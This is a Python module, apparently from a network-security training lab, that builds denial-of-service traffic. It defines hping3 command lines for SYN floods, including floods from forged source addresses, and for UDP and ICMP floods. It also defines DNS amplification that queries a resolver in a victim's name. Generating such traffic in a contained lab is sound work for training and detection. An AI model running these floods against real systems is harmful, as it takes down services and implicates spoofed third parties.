"""Floods: hping3 from true and forged addresses, and answers of a resolver to questions in the victim's name."""

import sys
from collections.abc import Callable
from typing import Final

from training.lab.attacks.tool import Order, Reach, Tool, addresses, only, straight
from training.lab.place import Place
from training.lab.traffic import ECHO, tcp, udp

DIRECT, EXHAUSTION, REFLECTION = "T1498.001", "T1499.001", "T1498.002"


def _hping(*kind: str) -> Callable[[Place, Order], list[list[str]]]:
    """At most order.packets over all targets, order.rate a second."""

    def commands(place: Place, order: Order) -> list[list[str]]:
        each = max(1, min(order.packets, int(order.rate * order.for_s)) // len(order.targets))
        pace = ["-q", "-n", "-c", str(each), "-i", f"u{max(1, round(1e6 / order.rate))}"]
        return [["hping3", *kind, *pace, address] for address in addresses(place, order)]

    return commands


def _from_nobody(place: Place, order: Order) -> list[Reach]:
    return [Reach(None, only(place, *order.targets), (tcp(80),))]


def _amplify(place: Place, order: Order) -> list[list[str]]:
    resolver, victim = place.site.addresses[order.through or ""], place.site.addresses[order.targets[0]]
    count = min(order.packets, int(order.rate * order.for_s))
    options = ["--victim", victim, "--resolver", resolver, "--count", str(count), "--rate", f"{order.rate:g}"]
    return [[sys.executable, "-m", "training.lab.clients.amplify", *options, "--seed", str(order.seed)]]


def _amplified(place: Place, order: Order) -> list[Reach]:
    return [Reach(only(place, *order.targets), only(place, order.through or ""), (udp(53),))]


_HPING: Final = (("hping3",), ("hping3",))
_SYN: Final = ("-S", "-p", "80")

FLOODS: Final = (
    Tool("syn-flood", "SYN flood", EXHAUSTION, *_HPING, _hping(*_SYN), straight(tcp(80)), service="http"),
    Tool(
        "syn-flood-forged",
        "SYN flood from forged addresses",
        EXHAUSTION,
        *_HPING,
        _hping(*_SYN, "--rand-source"),
        _from_nobody,
        service="http",
    ),
    Tool("udp-flood", "UDP flood", DIRECT, *_HPING, _hping("--udp", "-p", "9", "-d", "512"), straight(udp(9))),
    Tool("icmp-flood", "echo flood", DIRECT, *_HPING, _hping("--icmp", "-d", "900"), straight(ECHO)),
    Tool(
        "dns-amplification",
        "questions to a resolver in the victim's name",
        REFLECTION,
        (),
        (),
        _amplify,
        _amplified,
        through_service="dns",
    ),
)
